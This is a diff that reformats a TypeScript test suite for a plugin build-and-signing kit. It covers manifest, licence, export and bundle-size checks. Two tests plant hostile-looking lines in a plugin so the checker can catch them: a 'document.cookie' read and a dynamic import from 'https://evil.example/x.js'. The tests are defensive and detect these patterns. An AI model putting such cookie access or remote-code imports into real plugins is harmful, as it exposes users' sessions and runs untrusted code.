@@ -20,8 +20,12 @@ const here = process.cwd();
 beforeAll(async () => {
   mkdirSync(cache, { recursive: true });
   folder = mkdtempSync(join(cache, 'kit-'));
-  host = createServer((_, answer) => { answer.end(JSON.stringify(shared)); });
-  await new Promise<void>((done) => { host.listen(0, '127.0.0.1', done); });
+  host = createServer((_, answer) => {
+    answer.end(JSON.stringify(shared));
+  });
+  await new Promise<void>((done) => {
+    host.listen(0, '127.0.0.1', done);
+  });
 });
 afterAll(() => {
   process.chdir(here);
@@ -31,16 +35,30 @@ afterAll(() => {
 const address = (): string => `http://127.0.0.1:${(host.address() as AddressInfo).port}/`;
 async function kit(...args: readonly string[]): Promise<{ readonly code: number; readonly said: string }> {
   const said: string[] = [];
-  return { code: await runKit(args, (line) => { said.push(line); }), said: said.join('\n') };
+  return {
+    code: await runKit(args, (line) => {
+      said.push(line);
+    }),
+    said: said.join('\n'),
+  };
 }
-const listOf = (plugin: string): PluginPackage => JSON.parse(readFileSync(join(plugin, 'dist/plugin.json'), 'utf8')) as PluginPackage;
+const listOf = (plugin: string): PluginPackage =>
+  JSON.parse(readFileSync(join(plugin, 'dist/plugin.json'), 'utf8')) as PluginPackage;
 /** A console that has just what this plugin imports. */
-const fitting = ({ imports }: PluginPackage): SharedModules => ({ sdk: '1.0.0', modules: Object.fromEntries(Object.entries(imports).map(([name, exports]) => [name, { url: '/x.js', exports }])) });
+const fitting = ({ imports }: PluginPackage): SharedModules => ({
+  sdk: '1.0.0',
+  modules: Object.fromEntries(Object.entries(imports).map(([name, exports]) => [name, { url: '/x.js', exports }])),
+});
 
-test('the guide\'s own commands make a signed plugin that a console takes', async () => {
+test("the guide's own commands make a signed plugin that a console takes", async () => {
   const [, block = ''] = /```sh\n([\s\S]*?)```/.exec(readFileSync(join(root, 'docs/partner-plugins.md'), 'utf8')) ?? [];
-  const lines = block.trim().split('\n').map((line) => [...line.matchAll(/"([^"]*)"|(\S+)/g)].map(([, quoted, plain]) => quoted ?? plain ?? ''));
-  expect(lines.map(([program, command]) => `${program} ${command}`)).toEqual(['create', 'key', 'build', 'check', 'pack'].map((command) => `freightdeck-plugin ${command}`));
+  const lines = block
+    .trim()
+    .split('\n')
+    .map((line) => [...line.matchAll(/"([^"]*)"|(\S+)/g)].map(([, quoted, plain]) => quoted ?? plain ?? ''));
+  expect(lines.map(([program, command]) => `${program} ${command}`)).toEqual(
+    ['create', 'key', 'build', 'check', 'pack'].map((command) => `freightdeck-plugin ${command}`),
+  );
   process.chdir(folder);
   let publicKey = '';
   for (const [, ...args] of lines) {
@@ -50,9 +68,16 @@ test('the guide\'s own commands make a signed plugin that a console takes', asyn
     if (args[0] === 'key') publicKey = said;
   }
   const taken = verifyArchive(new Uint8Array(readFileSync('acme-quotes.zip')), shared);
-  expect([taken.plugin.manifest.id, taken.plugin.manifest.title, taken.publicKey]).toEqual(['acme-quotes', { zh: '运价试算', en: 'Freight quotes' }, publicKey]);
+  expect([taken.plugin.manifest.id, taken.plugin.manifest.title, taken.publicKey]).toEqual([
+    'acme-quotes',
+    { zh: '运价试算', en: 'Freight quotes' },
+    publicKey,
+  ]);
   expect(Object.keys(taken.imports).every((name) => Object.values(sharedSpecifiers).includes(name))).toBe(true);
-  expect(taken.plugin.files.map(({ path }) => path).every((path) => /-[\w-]{8}\.js$/.test(path)), 'names carry the hash of their content').toBe(true);
+  expect(
+    taken.plugin.files.map(({ path }) => path).every((path) => /-[\w-]{8}\.js$/.test(path)),
+    'names carry the hash of their content',
+  ).toBe(true);
 });
 
 test('a plugin is packed without a signature on purpose only', async () => {
@@ -76,9 +101,15 @@ test('the fixture of the journeys is what the kit makes today', () => {
   const made = join(folder, 'north-quotes');
   createPlugin(made, {});
   const kept = join(root, 'tests/fixtures/partner');
-  const filesOf = (of: string): string[] => readdirSync(of, { recursive: true, withFileTypes: true }).filter((entry) => entry.isFile()).map((entry) => join(entry.parentPath, entry.name).slice(of.length)).filter((path) => !path.startsWith('/dist/')).sort();
+  const filesOf = (of: string): string[] =>
+    readdirSync(of, { recursive: true, withFileTypes: true })
+      .filter((entry) => entry.isFile())
+      .map((entry) => join(entry.parentPath, entry.name).slice(of.length))
+      .filter((path) => !path.startsWith('/dist/'))
+      .sort();
   expect(filesOf(kept)).toEqual(filesOf(made));
-  for (const path of filesOf(made)) expect(readFileSync(kept + path, 'utf8'), path).toBe(readFileSync(made + path, 'utf8'));
+  for (const path of filesOf(made))
+    expect(readFileSync(kept + path, 'utf8'), path).toBe(readFileSync(made + path, 'utf8'));
 });
 
 describe('check names what a console would refuse', () => {
@@ -90,7 +121,16 @@ describe('check names what a console would refuse', () => {
     const built = await kit('build', plugin);
     if (built.code !== 0) return built.said;
     shared = fitting(listOf(plugin));
-    if (less !== undefined) shared = { ...shared, modules: Object.fromEntries(Object.entries(shared.modules).map(([name, one]) => [name, { ...one, exports: one.exports.filter((each) => `${name}#${each}` !== less) }])) };
+    if (less !== undefined)
+      shared = {
+        ...shared,
+        modules: Object.fromEntries(
+          Object.entries(shared.modules).map(([name, one]) => [
+            name,
+            { ...one, exports: one.exports.filter((each) => `${name}#${each}` !== less) },
+          ]),
+        ),
+      };
     const { code, said } = await kit('check', plugin, '--host', address());
     expect(code).toBe(said.includes('it links') ? 0 : 1);
     return said;
@@ -98,47 +138,135 @@ describe('check names what a console would refuse', () => {
   test('of several consoles the one that would refuse', async () => {
     expect(await checked('two-hosts', () => undefined)).toContain('it links');
     const older = join(folder, 'older.json');
-    writeFileSync(older, JSON.stringify({ ...shared, modules: { ...shared.modules, 'react@19': { url: '/x.js', exports: [] } } }));
+    writeFileSync(
+      older,
+      JSON.stringify({ ...shared, modules: { ...shared.modules, 'react@19': { url: '/x.js', exports: [] } } }),
+    );
     const { code, said } = await kit('check', join(folder, 'two-hosts'), '--host', address(), '--host', older);
     expect([code, said.split('\n').length]).toEqual([1, 1]);
     expect(said).toMatch(/^exportMissing: react@19#\w+.* \(.*older\.json\)$/);
   });
-  const edit = (file: string, from: string, to: string) => (plugin: string): void => {
-    const text = readFileSync(join(plugin, file), 'utf8');
-    expect(text).toContain(from);
-    writeFileSync(join(plugin, file), text.replace(from, to));
-  };
+  const edit =
+    (file: string, from: string, to: string) =>
+    (plugin: string): void => {
+      const text = readFileSync(join(plugin, file), 'utf8');
+      expect(text).toContain(from);
+      writeFileSync(join(plugin, file), text.replace(from, to));
+    };
   const store = 'web/stores/quote-book.ts';
 
-  test('nothing, of a plugin as it was made', async () => { expect(await checked('good-one', () => undefined)).toContain('it links'); });
-  test('a text in one language', async () => { expect(await checked('text-less', edit('locales/en.json', '"field.id": "No.",', ''))).toBe('messageMissing: en: field.id'); });
-  test('an export the console has not', async () => { expect(await checked('export-less', () => undefined, 'react@19#useState')).toBe('exportMissing: react@19#useState'); });
+  test('nothing, of a plugin as it was made', async () => {
+    expect(await checked('good-one', () => undefined)).toContain('it links');
+  });
+  test('a text in one language', async () => {
+    expect(await checked('text-less', edit('locales/en.json', '"field.id": "No.",', ''))).toBe(
+      'messageMissing: en: field.id',
+    );
+  });
+  test('an export the console has not', async () => {
+    expect(await checked('export-less', () => undefined, 'react@19#useState')).toBe('exportMissing: react@19#useState');
+  });
   test('a library that brings what must exist once', async () => {
-    expect(await checked('with-axios', (plugin) => {
-      edit(store, 'import { makeAutoObservable }', "import axios from 'axios';\nimport { makeAutoObservable }")(plugin);
-      edit(store, 'this.quotes = [...', 'void axios.get("/"); this.quotes = [...')(plugin);
-    })).toBe('sharedBundled: axios');
+    expect(
+      await checked('with-axios', (plugin) => {
+        edit(
+          store,
+          'import { makeAutoObservable }',
+          "import axios from 'axios';\nimport { makeAutoObservable }",
+        )(plugin);
+        edit(store, 'this.quotes = [...', 'void axios.get("/"); this.quotes = [...')(plugin);
+      }),
+    ).toBe('sharedBundled: axios');
   });
-  test('a call that the manifest does not serve, or of somebody else\'s service', async () => {
-    expect(await checked('not-served', edit('plugin.ts', "serves: { rate: 'not-served.book:view' },", ''))).toBe('pathUnserved: /api/partner/not-served/rate');
-    expect(await checked('of-others', edit('contract/rate.ts', '/api/partner/of-others/rate', '/api/partner/other-plugin/rate'))).toBe('pathUnserved: /api/partner/other-plugin/rate');
-    expect(await checked('key-less', edit('plugin.ts', "serves: { rate: 'key-less.book:view' }", "serves: { rate: 'key-less.book:sell' }"))).toMatch(/^manifestWrong: key-less\.book:sell/);
+  test("a call that the manifest does not serve, or of somebody else's service", async () => {
+    expect(await checked('not-served', edit('plugin.ts', "serves: { rate: 'not-served.book:view' },", ''))).toBe(
+      'pathUnserved: /api/partner/not-served/rate',
+    );
+    expect(
+      await checked(
+        'of-others',
+        edit('contract/rate.ts', '/api/partner/of-others/rate', '/api/partner/other-plugin/rate'),
+      ),
+    ).toBe('pathUnserved: /api/partner/other-plugin/rate');
+    expect(
+      await checked(
+        'key-less',
+        edit('plugin.ts', "serves: { rate: 'key-less.book:view' }", "serves: { rate: 'key-less.book:sell' }"),
+      ),
+    ).toMatch(/^manifestWrong: key-less\.book:sell/);
   });
-  test('forbidden code', async () => { expect(await checked('with-cookie', edit(store, 'this.quotes = [...', 'document.cookie; this.quotes = [...'))).toMatch(/^forbiddenCode: cookie/); });
-  test('code from elsewhere', async () => { expect(await checked('from-afar', edit(store, 'this.quotes = [...', 'void import(/* @vite-ignore */ "https://evil.example/x.js"); this.quotes = [...'))).toBe('foreignOrigin: https://evil.example/x.js'); });
-  test('more bytes than it may have', async () => { expect(await checked('too-fat', edit(store, 'this.quotes = [...', `document.title = ${JSON.stringify('x'.repeat(600_000))}; this.quotes = [...`))).toMatch(/^overBudget: 60\d{4} > 500000$/); });
+  test('forbidden code', async () => {
+    expect(
+      await checked('with-cookie', edit(store, 'this.quotes = [...', 'document.cookie; this.quotes = [...')),
+    ).toMatch(/^forbiddenCode: cookie/);
+  });
+  test('code from elsewhere', async () => {
+    expect(
+      await checked(
+        'from-afar',
+        edit(
+          store,
+          'this.quotes = [...',
+          'void import(/* @vite-ignore */ "https://evil.example/x.js"); this.quotes = [...',
+        ),
+      ),
+    ).toBe('foreignOrigin: https://evil.example/x.js');
+  });
+  test('more bytes than it may have', async () => {
+    expect(
+      await checked(
+        'too-fat',
+        edit(
+          store,
+          'this.quotes = [...',
+          `document.title = ${JSON.stringify('x'.repeat(600_000))}; this.quotes = [...`,
+        ),
+      ),
+    ).toMatch(/^overBudget: 60\d{4} > 500000$/);
+  });
   test('a library whose licence does not let it be given to others', async () => {
-    expect(await checked('with-lib', (plugin) => {
-      const library = join(plugin, 'node_modules/left-fence');
-      mkdirSync(library, { recursive: true });
-      writeFileSync(join(library, 'package.json'), JSON.stringify({ name: 'left-fence', version: '1.0.0', type: 'module', main: 'index.js', license: 'AGPL-3.0-only' }));
-      writeFileSync(join(library, 'index.js'), 'export const fence = (text) => `|${text}`;');
-      edit(store, 'import { makeAutoObservable }', "import { fence } from 'left-fence';\nimport { makeAutoObservable }")(plugin);
-      edit(store, 'this.quotes = [...', 'document.title = fence("x"); this.quotes = [...')(plugin);
-    })).toBe('licence: left-fence (AGPL-3.0-only)');
-    expect(['MIT', '(MIT OR GPL-3.0)', 'MIT AND ISC', '(MIT OR GPL-3.0) AND (ISC AND 0BSD)', 'MIT AND GPL-3.0', 'GPL-3.0', '', 'MIT ISC', 'SEE LICENSE IN x'].map(isAllowed)).toEqual([true, true, true, true, false, false, false, false, false]);
+    expect(
+      await checked('with-lib', (plugin) => {
+        const library = join(plugin, 'node_modules/left-fence');
+        mkdirSync(library, { recursive: true });
+        writeFileSync(
+          join(library, 'package.json'),
+          JSON.stringify({
+            name: 'left-fence',
+            version: '1.0.0',
+            type: 'module',
+            main: 'index.js',
+            license: 'AGPL-3.0-only',
+          }),
+        );
+        writeFileSync(join(library, 'index.js'), 'export const fence = (text) => `|${text}`;');
+        edit(
+          store,
+          'import { makeAutoObservable }',
+          "import { fence } from 'left-fence';\nimport { makeAutoObservable }",
+        )(plugin);
+        edit(store, 'this.quotes = [...', 'document.title = fence("x"); this.quotes = [...')(plugin);
+      }),
+    ).toBe('licence: left-fence (AGPL-3.0-only)');
+    expect(
+      [
+        'MIT',
+        '(MIT OR GPL-3.0)',
+        'MIT AND ISC',
+        '(MIT OR GPL-3.0) AND (ISC AND 0BSD)',
+        'MIT AND GPL-3.0',
+        'GPL-3.0',
+        '',
+        'MIT ISC',
+        'SEE LICENSE IN x',
+      ].map(isAllowed),
+    ).toEqual([true, true, true, true, false, false, false, false, false]);
   });
-  test('a manifest with a name that is not its own', async () => { expect(await checked('not-mine', edit('plugin.ts', "path: '/partner/not-mine/book'", "path: '/home'"))).toMatch(/^manifestWrong/); });
+  test('a manifest with a name that is not its own', async () => {
+    expect(await checked('not-mine', edit('plugin.ts', "path: '/partner/not-mine/book'", "path: '/home'"))).toMatch(
+      /^manifestWrong/,
+    );
+  });
 });
 
 describe('the suite every plugin keeps to', () => {
@@ -152,9 +280,14 @@ describe('the suite every plugin keeps to', () => {
   test('names a text that is nowhere, and what setup leaves behind', async () => {
     const plugin = join(folder, 'keeps-none');
     createPlugin(plugin, {});
-    const change = (file: string, from: string, to: string): void => writeFileSync(join(plugin, file), readFileSync(join(plugin, file), 'utf8').replace(from, to));
+    const change = (file: string, from: string, to: string): void =>
+      writeFileSync(join(plugin, file), readFileSync(join(plugin, file), 'utf8').replace(from, to));
     change('web/pages/quotes.tsx', "text('title')}</Text>", "text('gone')}</Text>");
-    change('web/index.ts', 'setup: (context) => context', "setup: (context) => { window.addEventListener('resize', () => undefined); context");
+    change(
+      'web/index.ts',
+      'setup: (context) => context',
+      "setup: (context) => { window.addEventListener('resize', () => undefined); context",
+    );
     change('web/index.ts', 'new QuoteBook()),', 'new QuoteBook()); },');
     const { code, said } = await kit('test', plugin);
     expect(code).toBe(1);
